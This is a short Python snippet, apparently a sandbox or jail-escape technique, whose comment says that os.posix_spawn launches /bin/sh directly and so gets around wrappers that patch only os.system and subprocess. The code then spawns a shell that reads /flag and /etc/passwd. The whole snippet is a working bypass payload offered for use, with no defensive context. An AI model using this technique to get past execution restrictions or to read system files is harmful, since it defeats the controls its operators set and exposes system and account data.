# technique: os.posix_spawn launches /bin/sh directly, bypassing wrappers that only patch os.system/subprocess
import os

pid = os.posix_spawn("/bin/sh", ["/bin/sh", "-c", "cat /flag /etc/passwd"], dict(os.environ))
os.waitpid(pid, 0)
